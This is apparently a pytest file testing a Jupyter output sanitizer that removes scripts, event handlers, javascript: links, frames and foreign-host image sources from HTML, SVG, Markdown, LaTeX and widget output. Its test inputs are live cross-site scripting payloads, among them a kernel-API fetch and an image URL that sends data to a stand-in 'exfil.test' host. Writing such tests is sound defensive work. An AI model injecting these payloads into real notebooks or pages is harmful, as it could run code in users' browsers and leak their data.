"""Output cleaning (sanitize.py): each payload kind of the browser cases B1 and B2."""

from __future__ import annotations

from typing import Any

import pytest

from srt_kernel.kernel import sanitize
from srt_kernel.kernel.sanitize import Sanitizer, clean_bundle

API_CALL = "fetch('/api/kernels', {method: 'POST'})"


# HTML payloads: the active part is gone, the harmless part stays.
@pytest.mark.parametrize(
    ("html", "expected"),
    [
        # <script>
        (f"<b>hi</b><script>{API_CALL}</script>", "<b>hi</b>"),
        # event handler on an image
        (f'<img src="x" onerror="{API_CALL}">', '<img src="x">'),
        # javascript: link
        ('<a href="javascript:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
        # frames, objects, embeds, forms
        ('<iframe src="/api/kernels"></iframe>ok', "ok"),
        ('<object data="x.swf"></object><embed src="y">ok', "ok"),
        ('<form action="/api/contents" method="post"><input name="a"></form>ok', "ok"),
        # style sheets restyle JupyterLab itself
        ("<style>body{display:none}</style>ok", "ok"),
        # style attributes keep only harmless properties
        (
            '<p style="color:red;position:fixed;background:url(http://e.test/)">p</p>',
            '<p style="color:red">p</p>',
        ),
        # absolute src would be fetched past the proxy; inline images stay
        ('<img src="https://exfil.test/?d=secret">', "<img>"),
        ('<img src="//exfil.test/x">', "<img>"),
        (
            '<img src="data:image/png;base64,AAAA">',
            '<img src="data:image/png;base64,AAAA">',
        ),
        ('<img src="data:text/html;base64,AAAA">', "<img>"),
        # a pandas table keeps its shape
        (
            '<table border="1" class="dataframe"><tr><td>1</td></tr></table>',
            '<table border="1" class="dataframe"><tbody><tr><td>1</td></tr></tbody>'
            "</table>",
        ),
    ],
)
def test_html(html: str, expected: str) -> None:
    cleaned, removed = clean_bundle({"text/html": html})
    assert cleaned == {"text/html": expected}
    assert removed == []


# SVG: handlers, scripts and foreign content go; shapes stay.
@pytest.mark.parametrize(
    ("svg", "expected"),
    [
        (
            '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
            '<circle r="1" onclick="x()"/></svg>',
            '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"></circle></svg>',
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
            "<foreignObject><iframe src=x></iframe></foreignObject>"
            '<rect width="1"/></svg>',
            '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1"></rect></svg>',
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><use xlink:href="#p"/>'
            '<use href="javascript:alert(1)"/></svg>',
            '<svg xmlns:xlink="http://www.w3.org/1999/xlink" '
            'xmlns="http://www.w3.org/2000/svg"><use xlink:href="#p"></use>'
            "<use></use></svg>",
        ),
    ],
)
def test_svg(svg: str, expected: str) -> None:
    cleaned, removed = clean_bundle({"image/svg+xml": svg})
    assert cleaned == {"image/svg+xml": expected}
    assert removed == []


def test_svg_with_nothing_left_is_removed() -> None:
    cleaned, removed = clean_bundle({"image/svg+xml": "<script>alert(1)</script>"})
    assert removed == ["image/svg+xml"]
    assert cleaned["text/plain"].startswith("[srt-kernel] Removed image/svg+xml")


# Executable and unknown types are removed with a note naming the setting.
@pytest.mark.parametrize(
    "mime",
    [
        "application/javascript",
        "text/javascript",
        "application/x-javascript",
        "application/vnd.bokehjs_exec.v0+json",
        "application/pdf",
    ],
)
def test_executable_and_unknown_types_are_removed(mime: str) -> None:
    cleaned, removed = clean_bundle({mime: API_CALL, "text/plain": "<obj>"})
    assert removed == [mime]
    assert cleaned == {
        "text/plain": f"[srt-kernel] Removed {mime} from this output: it could run "
        "code in your browser. To allow active output, set "
        f'"{sanitize.SETTING}": true in your settings '
        "(~/.config/srt-kernel/settings.json).\n<obj>"
    }


# Data-only renderers pass unchanged.
@pytest.mark.parametrize(
    ("mime", "value"),
    [
        ("text/plain", "<script>not html</script>"),
        ("image/png", "iVBORw0KGgo="),
        ("image/jpeg", "/9j/"),
        ("application/json", {"a": "<script>"}),
        ("application/vnd.vegalite.v5+json", {"mark": "bar"}),
        ("application/vnd.vega.v5+json", {"marks": []}),
        ("application/vnd.plotly.v1+json", {"data": []}),
        ("application/vnd.jupyter.widget-view+json", {"model_id": "m"}),
    ],
)
def test_data_types_pass(mime: str, value: Any) -> None:
    assert clean_bundle({mime: value}) == ({mime: value}, [])


# Markdown and LaTeX keep their text; script URLs become inert.
@pytest.mark.parametrize(
    ("mime", "text", "expected"),
    [
        (
            "text/markdown",
            "[x](javascript:alert(1))",
            "[x](javascript-blocked-by-srt-kernel:alert(1))",
        ),
        ("text/markdown", "# T\n<img src=x onerror=alert(1)>", '# T\n<img src="x">'),
        ("text/markdown", "metadata: *fine*", "metadata: *fine*"),
        (
            "text/latex",
            r"$\href{javascript:alert(1)}{x}$",
            r"$\href{javascript-blocked-by-srt-kernel:alert(1)}{x}$",
        ),
        ("text/latex", r"$x^2$", r"$x^2$"),
    ],
)
def test_markdown_and_latex(mime: str, text: str, expected: str) -> None:
    assert clean_bundle({mime: text}) == ({mime: expected}, [])


def test_allow_active_output_changes_nothing() -> None:
    content = {"data": {"application/javascript": API_CALL}, "metadata": {}}
    out = Sanitizer().clean("display_data", content, allow_active_output=True)
    assert out == {"data": {"application/javascript": API_CALL}, "metadata": {}}


def widget_open(model: str, state: dict[str, Any]) -> dict[str, Any]:
    return {
        "comm_id": "w1",
        "target_name": "jupyter.widget",
        "data": {"state": {"_model_name": model, **state}, "buffer_paths": []},
    }


# Widget state rendered as HTML is cleaned (browser case B2); text is not.
@pytest.mark.parametrize(
    ("model", "field", "value", "expected"),
    [
        ("HTMLModel", "value", "<img src=x onerror=alert(1)>hi", '<img src="x">hi'),
        ("HTMLMathModel", "value", "<script>alert(1)</script>$x$", "$x$"),
        ("ButtonModel", "description", "<b onmouseover=alert(1)>b</b>", "<b>b</b>"),
        ("TextModel", "value", "x < 3 <b>", "x < 3 <b>"),
    ],
)
def test_widget_state(model: str, field: str, value: str, expected: str) -> None:
    sanitizer = Sanitizer()
    opened = sanitizer.clean(
        "comm_open", widget_open(model, {field: value}), allow_active_output=False
    )
    assert opened["data"]["state"][field] == expected
    update = {"comm_id": "w1", "data": {"method": "update", "state": {field: value}}}
    cleaned = sanitizer.clean("comm_msg", update, allow_active_output=False)
    assert cleaned["data"]["state"][field] == expected


def test_output_widget_outputs_are_cleaned() -> None:
    state = {
        "outputs": [
            {
                "output_type": "display_data",
                "data": {
                    "application/javascript": API_CALL,
                    "text/html": "<script>1</script>ok",
                },
                "metadata": {},
            }
        ]
    }
    out = Sanitizer().clean(
        "comm_open", widget_open("OutputModel", state), allow_active_output=False
    )
    assert out["data"]["state"]["outputs"][0]["data"] == {"text/html": "ok"}


def test_payload_inspect_and_help_links() -> None:
    s = Sanitizer()
    reply = {
        "payload": [{"source": "page", "data": {"text/html": "<script>1</script>p"}}]
    }
    s.clean("execute_reply", reply, allow_active_output=False)
    assert reply["payload"][0]["data"] == {"text/html": "p"}
    inspect = {"found": True, "data": {"text/html": '<a href="javascript:x">a</a>'}}
    s.clean("inspect_reply", inspect, allow_active_output=False)
    assert inspect["data"]["text/html"] == '<a rel="noopener noreferrer">a</a>'
    info = {
        "help_links": [
            {"text": "ok", "url": "https://docs.python.org"},
            {"text": "bad", "url": "javascript:alert(1)"},
        ]
    }
    s.clean("kernel_info_reply", info, allow_active_output=False)
    assert info["help_links"] == [{"text": "ok", "url": "https://docs.python.org"}]
